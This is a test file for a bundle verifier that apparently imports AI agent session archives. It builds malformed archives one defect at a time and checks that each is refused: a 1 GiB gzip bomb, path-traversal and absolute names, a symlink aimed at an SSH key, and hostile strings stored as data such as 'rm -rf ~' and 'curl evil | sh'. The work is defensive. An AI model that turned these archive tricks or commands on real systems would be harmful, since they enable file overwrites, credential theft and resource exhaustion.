/**
 * Hostile bundles, each broken in exactly one way, must be refused by verifyBundle with a message naming that way,
 * and extracting them must leave no file behind.
 */
import { randomBytes } from 'node:crypto';
import { mkdtemp, open, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { extractBundle, readManifest, verifyBundle, type Limits } from '../../src/bundle/index.js';
import type { ProfileSet } from '../../src/profiles/index.js';
import { rejected } from '../../../../test/support/errors.js';
import {
  codexBundle,
  codexParts,
  filesUnder,
  gzip,
  sha,
  shippedProfiles,
  tarOf,
  type RawEntry,
} from '../../../../test/support/handmade-bundles.js';

let dir: string;
let profiles: ProfileSet;
let counter = 0;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'blue-agent-bundle-verify-'));
  profiles = await shippedProfiles();
});
afterAll(async () => rm(dir, { recursive: true, force: true }));

async function save(bytes: Buffer): Promise<string> {
  const file = path.join(dir, `b${counter++}.bundle`);
  await writeFile(file, bytes);
  return file;
}

/** A codex bundle whose manifest has `changes` applied. */
const withManifest = (changes: (m: Record<string, unknown>, file: Record<string, unknown>) => void) =>
  codexBundle(({ manifest }) => {
    changes(manifest, (manifest.files as Record<string, unknown>[])[0]!);
  });

const manifestEntry = (m: Record<string, unknown>): RawEntry => ({ name: 'manifest.json', data: JSON.stringify(m) });

/** A gzip member of `total` zero bytes, built from one independently deflated block repeated: about 1 MiB per GiB. */
function zeroBomb(total: number): Buffer {
  const block = 1024 * 1024;
  const piece = zlib.deflateRawSync(Buffer.alloc(block), { finishFlush: zlib.constants.Z_FULL_FLUSH });
  const count = total / block;
  let crc = 0;
  const zeros = Buffer.alloc(block);
  for (let i = 0; i < count; i++) crc = zlib.crc32(zeros, crc);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc >>> 0, 0);
  trailer.writeUInt32LE(total % 2 ** 32, 4);
  return Buffer.concat([
    Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]),
    ...Array.from({ length: count }, () => piece),
    zlib.deflateRawSync(Buffer.alloc(0)),
    trailer,
  ]);
}

interface Case {
  name: string;
  bundle: () => Buffer | Promise<Buffer>;
  message: RegExp;
  limits?: Partial<Limits>;
}

const rollout = codexParts().content;

const cases: Case[] = [
  // --- compression layer
  {
    name: 'not gzip at all',
    bundle: () => tarOf([{ name: 'manifest.json', data: '{}' }]),
    message: /is not gzip-compressed/,
  },
  {
    name: 'a truncated archive',
    bundle: () => codexBundle().subarray(0, 120),
    message: /is truncated: the compressed stream ends early/,
  },
  {
    name: 'a truncated archive cut inside the trailer',
    bundle: () => codexBundle().subarray(0, codexBundle().length - 3),
    message: /is truncated: the compressed stream ends early/,
  },
  {
    name: 'trailing garbage after the gzip stream',
    bundle: () => Buffer.concat([codexBundle(), Buffer.from('#!/bin/sh\nrm -rf ~\n')]),
    message: /bytes of data after the end of the compressed stream/,
  },
  {
    name: 'trailing zeros after the gzip stream',
    bundle: () => Buffer.concat([codexBundle(), Buffer.alloc(4096)]),
    message: /data after the end of the compressed stream/,
  },
  {
    name: 'a second gzip member',
    bundle: () => Buffer.concat([codexBundle(), gzip(tarOf([{ name: 'files/0001-x', data: 'x' }]))]),
    message: /data after the end of the compressed stream/,
  },
  {
    name: 'a damaged gzip checksum',
    bundle: () => {
      const b = Buffer.from(codexBundle());
      b[b.length - 6]! ^= 0xff;
      return b;
    },
    message: /gzip checksum that does not match/,
  },
  {
    name: 'damaged deflate data',
    bundle: () => {
      const b = Buffer.from(codexBundle());
      for (let i = 20; i < 40; i++) b[i] = 0xff;
      return b;
    },
    message: /has damaged compressed data \(invalid/,
  },
  { name: 'a gzip bomb (1 GiB of zeros)', bundle: () => zeroBomb(1024 ** 3), message: /decompression bomb guard/ },
  {
    name: 'more uncompressed data than the cap',
    bundle: () => codexBundle(),
    limits: { tarBytes: 1024 },
    message: /decompresses to more than 1\.0 KiB; reading stopped \(decompression bomb guard\)/,
  },
  // --- tar layer
  {
    name: 'no end-of-archive marker',
    bundle: () => gzip(tarOf([{ name: 'files/0000-rollout.jsonl', data: rollout }], { end: 0 })),
    message: /has no end-of-archive marker/,
  },
  {
    name: 'a half end-of-archive marker',
    bundle: () => gzip(tarOf([{ name: 'files/0000-rollout.jsonl', data: rollout }], { end: 1 })),
    message: /end-of-archive marker is incomplete/,
  },
  {
    name: 'an archive cut inside an entry',
    bundle: () => gzip(tarOf([{ name: 'files/0000-rollout.jsonl', data: rollout }], { end: 0 }).subarray(0, 600)),
    message: /ends inside "files\/0000-rollout.jsonl"/,
  },
  {
    name: 'data after the end-of-archive marker',
    bundle: () => gzip(tarOf([{ name: 'files/0000-rollout.jsonl', data: rollout }], { after: Buffer.from('hidden') })),
    message: /data after the end-of-archive marker/,
  },
  {
    name: 'an entry hidden after a single zero block',
    bundle: () => {
      const { manifest } = codexParts();
      const first = tarOf([{ name: 'files/0000-rollout.jsonl', data: rollout }], { end: 1 });
      return gzip(Buffer.concat([first, tarOf([manifestEntry(manifest)])]));
    },
    message: /entry after a zero block/,
  },
  {
    name: 'a header with a wrong checksum',
    bundle: () =>
      codexBundle(
        ({ entries }) =>
          void Object.assign(entries[0]!, { patch: (b: Buffer) => void (b[0] = 0x46), keepChecksum: true }),
      ),
    message: /has a header with a wrong checksum/,
  },
  {
    name: 'a header that is not ustar',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.patch = (b) => void b.fill(0, 257, 265))),
    message: /header that is not ustar/,
  },
  // --- entry names
  {
    name: 'path traversal',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'files/../../.bashrc')),
    message: /entry "files\/..\/..\/.bashrc" has ".." in its name/,
  },
  {
    name: 'an absolute name',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = '/etc/cron.d/x')),
    message: /entry "\/etc\/cron.d\/x" has an absolute name/,
  },
  {
    name: 'a "./" trick',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = './files/0000-rollout.jsonl')),
    message: /has a "." segment in its name/,
  },
  {
    name: 'an empty segment',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'files//0000-rollout.jsonl')),
    message: /empty segment in its name/,
  },
  {
    name: 'a backslash',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'files\\..\\..\\x')),
    message: /backslash in its name/,
  },
  {
    name: 'a name hiding bytes after a NUL',
    bundle: () =>
      codexBundle(({ entries }) => {
        entries[0]!.patch = (b) => void b.write('\0../../../.profile', 24, 'latin1');
      }),
    message: /bytes hidden after a NUL in a name field/,
  },
  {
    name: 'an overlong name',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.pax = { path: `files/0000-${'a'.repeat(1100)}` })),
    message: /name longer than 1024 bytes/,
  },
  {
    name: 'a pax path escaping',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.pax = { path: '../escape' })),
    message: /entry "..\/escape" has ".." in its name/,
  },
  {
    name: 'a pax sparse map',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.pax = { 'GNU.sparse.map': '0,10' })),
    message: /unsupported pax record "GNU.sparse.map"/,
  },
  {
    name: 'an unexpected entry',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.name = 'install.sh')),
    message: /unexpected entry "install.sh"/,
  },
  // --- entry types
  {
    name: 'a symlink entry',
    bundle: () =>
      codexBundle(
        ({ entries }) =>
          void Object.assign(entries[0]!, { type: '2', linkname: '/home/dev/.ssh/id_ed25519', data: '' }),
      ),
    message: /"files\/0000-rollout.jsonl" is a symbolic link to "\/home\/dev\/.ssh\/id_ed25519"/,
  },
  {
    name: 'a hard link entry',
    bundle: () =>
      codexBundle(({ entries }) => void Object.assign(entries[0]!, { type: '1', linkname: 'manifest.json', data: '' })),
    message: /is a hard link to "manifest.json"/,
  },
  {
    name: 'a character device',
    bundle: () => codexBundle(({ entries }) => void Object.assign(entries[0]!, { type: '3', data: '' })),
    message: /is a character device/,
  },
  {
    name: 'a FIFO entry',
    bundle: () => codexBundle(({ entries }) => void Object.assign(entries[0]!, { type: '6', data: '' })),
    message: /is a FIFO/,
  },
  {
    name: 'a global pax header',
    bundle: () => codexBundle(({ entries }) => [{ name: 'g', type: 'g', data: '11 path=x\n' }, ...entries]),
    message: /global pax header/,
  },
  {
    name: 'a directory entry other than files/',
    bundle: () =>
      codexBundle(({ entries, manifest }) => [{ name: 'files/sub/', type: '5' }, ...entries, manifestEntry(manifest)]),
    message: /directory entry "files\/sub\/"/,
  },
  // --- entries against the manifest
  {
    name: 'a duplicate entry',
    bundle: () => codexBundle(({ entries, manifest }) => [...entries, ...entries, manifestEntry(manifest)]),
    message: /has the entry "files\/0000-rollout.jsonl" twice/,
  },
  {
    name: 'a digest mismatch',
    bundle: () => withManifest((_, f) => void (f.sha256 = sha('something else'))),
    message: /files\/0000-rollout.jsonl has SHA-256 [0-9a-f]{64}, but manifest.json says/,
  },
  {
    name: 'content swapped for the same size',
    bundle: () =>
      codexBundle(({ entries }) => void (entries[0]!.data = Buffer.from(rollout.toString().replace('hello', 'HELLO')))),
    message: /has SHA-256 .* but manifest.json says/,
  },
  {
    name: 'a size mismatch',
    bundle: () => withManifest((_, f) => void (f.size = (f.size as number) + 1)),
    message: /is 58 bytes, but manifest.json says 59/,
  },
  {
    name: 'an unlisted file',
    bundle: () =>
      codexBundle(({ entries, manifest }) => [
        ...entries,
        { name: 'files/0001-extra.sh', data: 'curl evil | sh' },
        manifestEntry(manifest),
      ]),
    message: /files\/0001-extra.sh is in the archive but not listed in manifest.json/,
  },
  {
    name: 'a missing file',
    bundle: () => codexBundle(({ manifest }) => [manifestEntry(manifest)]),
    message: /files\/0000-rollout.jsonl is listed in manifest.json but missing from the archive/,
  },
  {
    name: 'too many files',
    bundle: () =>
      codexBundle(({ entries, manifest }) => [
        ...entries,
        { name: 'files/0001-x', data: 'x' },
        manifestEntry(manifest),
      ]),
    limits: { files: 1 },
    message: /has more than 1 files/,
  },
  {
    name: 'a file over the one-file cap',
    bundle: () => codexBundle(({ entries }) => void (entries[0]!.size = 64 * 1024 * 1024 + 1)),
    message: /"files\/0000-rollout.jsonl" of 67108865 bytes, over the 64.0 MiB cap for one file/,
  },
  // --- the manifest itself
  { name: 'no manifest', bundle: () => codexBundle(({ entries }) => entries), message: /has no manifest.json/ },
  {
    name: 'two manifests',
    bundle: () =>
      codexBundle(({ entries, manifest }) => [manifestEntry(manifest), ...entries, manifestEntry(manifest)]),
    message: /has manifest.json twice/,
  },
  {
    name: 'a manifest that is not JSON',
    bundle: () => codexBundle(({ entries }) => [...entries, { name: 'manifest.json', data: '{"schema_version": 1,' }]),
    message: /manifest.json that is not valid JSON/,
  },
  {
    name: 'a manifest that is not UTF-8',
    bundle: () =>
      codexBundle(({ entries }) => [...entries, { name: 'manifest.json', data: Buffer.from([0x7b, 0xff, 0x7d]) }]),
    message: /manifest.json that is not valid UTF-8/,
  },
  {
    name: 'a schema-invalid manifest',
    bundle: () => withManifest((m) => void (m.harness = 'vim')),
    message: /manifest.json: invalid bundle manifest: \/harness must be one of/,
  },
  {
    name: 'a manifest with an unknown field',
    bundle: () => withManifest((m) => void (m.restore_hook = 'sh -c evil')),
    message: /has an unknown field "restore_hook"/,
  },
  {
    name: 'an oversize manifest',
    bundle: () =>
      codexBundle(({ entries }) => [...entries, { name: 'manifest.json', data: '{}', size: 17 * 1024 * 1024 }]),
    message: /manifest.json of 17825792 bytes, over the 16.0 MiB cap/,
  },
  {
    name: 'a manifest listing a path twice',
    bundle: () => withManifest((m, f) => void (m.files = [f, f])),
    message: /files\[1\] \(files\/0000-rollout.jsonl\): the path is listed twice/,
  },
  {
    name: 'an unsafe native path',
    bundle: () => withManifest((_, f) => void (f.native_path = '../../.bashrc')),
    message: /native_path "..\/..\/.bashrc" contains ".."/,
  },
  {
    name: 'an absolute native path',
    bundle: () => withManifest((_, f) => void (f.native_path = '/etc/passwd')),
    message: /native_path "\/etc\/passwd" is absolute/,
  },
  // --- the profile
  {
    name: 'an unknown profile',
    bundle: () => withManifest((m) => void (m.compatibility_profile = 'codex-v9_0_0')),
    message: /compatibility profile "codex-v9_0_0" is unknown/,
  },
  {
    name: 'a harness that does not match the profile',
    bundle: () => withManifest((m) => void (m.harness = 'claude')),
    message: /harness "claude" does not match profile codex-v0_145_0, which is for codex/,
  },
  {
    name: 'a role the profile does not have',
    bundle: () => withManifest((_, f) => void (f.role = 'primary_transcript')),
    message: /role primary_transcript is not one of profile codex-v0_145_0's roles \(rollout\)/,
  },
  {
    name: "a role count outside the profile's bounds",
    bundle: () =>
      codexBundle(({ entries, manifest }) => {
        const files = manifest.files as Record<string, unknown>[];
        manifest.files = [...files, { ...files[0], path: 'files/0001-rollout.jsonl', native_path: 'other.jsonl' }];
        return [...entries, { name: 'files/0001-rollout.jsonl', data: rollout }, manifestEntry(manifest)];
      }),
    message: /profile codex-v0_145_0 needs exactly 1 rollout file, found 2/,
  },
  {
    name: 'a missing native path',
    bundle: () => withManifest((_, f) => void delete f.native_path),
    message: /has no native_path, but profile codex-v0_145_0 restores/,
  },
  {
    name: 'a native path where the profile has no session root',
    bundle: () =>
      withManifest((m, f) => {
        m.harness = 'opencode';
        m.compatibility_profile = 'opencode-v1_2_0';
        f.role = 'portable_export';
      }),
    message: /has a native_path, but profile opencode-v1_2_0 has no session root/,
  },
];

describe('verifyBundle refuses', () => {
  it.each(cases)('$name', async ({ bundle, message, limits }) => {
    const file = await save(await bundle());
    const error = await rejected(verifyBundle(file, { profiles, ...(limits === undefined ? {} : { limits }) }));
    expect(error.code).toBe('BUNDLE_INVALID');
    expect(error.message).toMatch(message);
    expect(error.message.startsWith(`${file}: `)).toBe(true);

    const target = path.join(dir, `x${counter++}`);
    const extracted = await rejected(
      extractBundle(file, target, { profiles, ...(limits === undefined ? {} : { limits }) }),
    );
    expect(extracted.message).toBe(error.message);
    expect(await filesUnder(target)).toEqual([]);
  });

  it("the gzip bomb without inflating it: reading stops just past the ratio guard's floor", async () => {
    const file = await save(zeroBomb(1024 ** 3));
    const error = await rejected(verifyBundle(file, { profiles }));
    expect(error.message).toMatch(/expands more than 200:1 .*decompression bomb guard/);
    // The message says how much it inflated before it stopped: the 16 MiB floor and one chunk, not the 1 GiB.
    const [, inflated] = /\((\d+\.\d) MiB from /.exec(error.message) ?? [];
    expect(Number(inflated)).toBeGreaterThan(16);
    expect(Number(inflated)).toBeLessThanOrEqual(16.1);
  });

  it('a bundle over the compressed cap before reading it (a sparse 129 MiB file)', async () => {
    const file = path.join(dir, 'huge.bundle');
    const handle = await open(file, 'w');
    await handle.truncate(129 * 1024 * 1024);
    await handle.close();
    const error = await rejected(verifyBundle(file, { profiles }));
    expect(error.message).toBe(`${file}: is ${129 * 1024 * 1024} bytes, over the 128.0 MiB cap for a bundle`);
  });

  it('a path that is not a regular file, and one that does not exist', async () => {
    expect((await rejected(verifyBundle(dir, { profiles }))).message).toBe(`${dir}: is not a regular file`);
    const missing = path.join(dir, 'missing.bundle');
    const error = await rejected(verifyBundle(missing, { profiles }));
    expect(error.message).toBe(`${missing}: cannot be read (ENOENT)`);
  });

  it('nothing at a read-buffer boundary: the gzip trailer alone in the last read, or split across two', async () => {
    // An incompressible rollout and a gzip extra field bring the compressed stream's end to the 256 KiB read size.
    const content = randomBytes(200 * 1024);
    const { manifest } = codexParts();
    Object.assign((manifest.files as Record<string, unknown>[])[0]!, { size: content.length, sha256: sha(content) });
    const plain = gzip(tarOf([{ name: 'files/0000-rollout.jsonl', data: content }, manifestEntry(manifest)]));
    for (const split of [0, 3, 8]) {
      const extra = 256 * 1024 + 8 - split - (plain.length + 2);
      const xlen = Buffer.alloc(2);
      xlen.writeUInt16LE(extra);
      const header = Buffer.from(plain.subarray(0, 10));
      header[3] = 4;
      const bytes = Buffer.concat([header, xlen, Buffer.alloc(extra), plain.subarray(10)]);
      expect(bytes.length - 8 + split).toBe(256 * 1024);
      const file = await save(bytes);
      expect((await verifyBundle(file, { profiles })).sha256).toBe(sha(bytes));
    }
  });

  it('each case is a valid bundle but for its one defect', async () => {
    const file = await save(codexBundle());
    const result = await verifyBundle(file, { profiles });
    expect(result.manifest.native_session_id).toBe('sess-1');
  });

  it('the first violation when there are several', async () => {
    // An unlisted file and a digest mismatch: the listed files are checked first, in manifest order.
    const file = await save(
      codexBundle(({ entries, manifest }) => {
        (manifest.files as Record<string, unknown>[])[0]!.sha256 = sha('x');
        return [...entries, { name: 'files/0001-extra', data: 'x' }, manifestEntry(manifest)];
      }),
    );
    expect((await rejected(verifyBundle(file, { profiles }))).message).toMatch(/has SHA-256/);
  });
});

describe('readManifest', () => {
  it('returns the validated manifest', async () => {
    const file = await save(codexBundle());
    expect(await readManifest(file)).toEqual(codexParts().manifest);
  });

  it('refuses a schema-invalid manifest and a hostile archive', async () => {
    expect(
      (await rejected(readManifest(await save(withManifest((m) => void (m.schema_version = 2)))))).message,
    ).toMatch(/\/schema_version/);
    expect(
      (await rejected(readManifest(await save(cases.find((c) => c.name === 'a symlink entry')!.bundle() as Buffer))))
        .message,
    ).toMatch(/symbolic link/);
    expect((await rejected(readManifest(await save(zeroBomb(1024 ** 3))))).message).toMatch(/decompression bomb guard/);
  });
});
